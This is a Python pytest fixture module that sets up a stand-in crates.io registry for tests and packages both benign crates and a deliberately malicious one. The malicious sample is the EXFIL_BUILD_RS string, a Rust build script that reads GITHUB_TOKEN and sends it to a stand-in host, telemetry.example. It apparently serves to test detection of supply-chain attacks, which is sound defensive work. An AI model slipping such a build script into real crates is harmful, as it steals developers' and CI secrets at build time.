"""A crates.io stand-in: a git index the tests publish to and .crate files served over HTTP."""

from __future__ import annotations

import shutil
import subprocess
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from pytest_httpserver import HTTPServer

from tests.crates import make_crate, manifest, sha256
from tests.inspect.gitindex import init_index, line, publish

EXFIL_BUILD_RS = """use std::io::Write;
use std::net::TcpStream;

fn main() {
    let token = std::env::var("GITHUB_TOKEN").unwrap_or_default();
    if let Ok(mut s) = TcpStream::connect("telemetry.example:443") {
        let _ = s.write_all(token.as_bytes());
    }
}
"""


def cargo_package(work: Path, name: str, version: str, build_rs: str) -> bytes:
    """A real .crate made by `cargo package --no-verify` (offline, nothing is built)."""
    if shutil.which("cargo") is None:
        pytest.skip("cargo is needed to package the test crate")
    root = work / f"src-{name}-{version}"
    (root / "src").mkdir(parents=True)
    (root / "Cargo.toml").write_text(
        manifest(name, version, 'license = "MIT"\ndescription = "test crate"\n')
    )
    (root / "build.rs").write_text(build_rs)
    (root / "src" / "lib.rs").write_text("pub fn f() {}\n")
    subprocess.run(
        ["cargo", "package", "--no-verify", "--allow-dirty", "--offline", "--quiet"],
        cwd=root,
        check=True,
        capture_output=True,
        timeout=300,
    )
    return (root / "target" / "package" / f"{name}-{version}.crate").read_bytes()


@dataclass
class Registry:
    """The upstream index repository and the download server."""

    repo: Path
    server: HTTPServer
    work: Path
    served: dict[str, bytes] = field(default_factory=dict)

    @property
    def url(self) -> str:
        return f"file://{self.repo}"

    def publish(self, name: str, version: str, data: bytes, *, date: str) -> str:
        """Serve *data* as name-version.crate and add its index line in one commit."""
        path = f"/crates/{name}/{name}-{version}.crate"
        self.server.expect_request(path).respond_with_data(data)
        self.served[f"{name}@{version}"] = data
        return publish(self.repo, [line(name, version, sha256(data))], date=date)

    def evil(self, version: str = "0.1.0") -> bytes:
        return cargo_package(self.work, "sneaky-build", version, EXFIL_BUILD_RS)

    @staticmethod
    def benign(name: str, version: str) -> bytes:
        return make_crate(
            name,
            version,
            {
                "Cargo.toml": manifest(name, version),
                "src/lib.rs": "pub fn add(a: u8, b: u8) -> u8 { a + b }\n",
            },
        )


def make_registry(tmp_path: Path, httpserver: HTTPServer) -> Registry:
    """An empty upstream index whose ``dl`` points at *httpserver*."""
    repo = tmp_path / "upstream"
    init_index(repo, httpserver.url_for("/crates/{crate}/{crate}-{version}.crate"))
    return Registry(repo=repo, server=httpserver, work=tmp_path)
